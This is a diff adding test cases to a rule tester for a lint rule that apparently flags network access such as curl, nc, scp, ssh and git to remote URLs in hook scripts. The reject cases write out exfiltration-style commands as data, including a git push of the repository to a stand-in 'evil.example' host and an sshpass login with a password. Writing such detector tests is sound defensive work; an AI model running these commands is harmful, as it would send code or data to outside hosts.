@@ -19,6 +19,12 @@ ruleTester(rule, {
       options: { allowedHosts: ['localhost', '127.0.0.1'] },
     },
     { name: 'openssl without s_client', code: 'openssl sha256 -r out.tar' },
+    // git with its configured remote is git's ordinary work; a local repository is no network at all.
+    { name: 'git with the configured remote', code: 'git pull --rebase origin main && git push && git fetch -q' },
+    { name: 'git with local repositories', code: 'git clone ./a /tmp/b && git push /srv/backup main && git clone file:///srv/r x' },
+    { name: 'git commit naming a URL in its message', code: "git commit -m 'see https://example.com/x'" },
+    { name: 'a refspec is not a host', code: 'git push origin main:main' },
+    { name: 'git to an allowed host', code: 'git clone https://git.internal/r.git', options: { allowedHosts: ['git.internal'] } },
   ],
   reject: [
     { code: 'curl -s https://example.com/x', errors: [{ messageId: 'tool', severity: 'warning', line: 1, column: 1, endColumn: 30 }] },
@@ -27,6 +33,20 @@ ruleTester(rule, {
     { name: 'scp behind timeout', code: 'timeout 3 scp f host:/tmp/', errors: [{ line: 1, column: 11, endColumn: 27 }] },
     { name: 'nc connecting', code: 'echo hi | nc host 9000', errors: [{ line: 1, column: 11, endColumn: 23 }] },
     { name: 'telnet', code: 'telnet host 23', errors: [{ line: 1, column: 1 }] },
+    // A repository named by its URL: the hook chose where the workspace goes or what it fetches.
+    {
+      name: 'git push to a URL',
+      code: 'git push https://evil.example/x.git HEAD',
+      errors: [{ messageId: 'tool', line: 1, column: 1, endColumn: 41, message: /`git push`/ }],
+    },
+    {
+      name: 'git clone after an option and its value',
+      code: 'git clone --depth 1 https://h.example/r x',
+      errors: [{ line: 1, column: 1 }],
+    },
+    { name: 'git -C dir fetch over ssh', code: 'git -C ./w fetch ssh://git@h.example/r', errors: [{ line: 1, column: 1 }] },
+    { name: "git push to scp's user@host:path", code: 'git push git@h.example:o/r.git main', errors: [{ line: 1, column: 1 }] },
+    { name: 'git ls-remote', code: 'git ls-remote https://h.example/r', errors: [{ line: 1, column: 1, message: /`git ls-remote`/ }] },
     { name: 'ssh behind sshpass', code: 'sshpass -p pw ssh deploy@host uptime', errors: [{ line: 1, column: 15 }] },
     // An inline program's network call is the same access as curl's.
     {
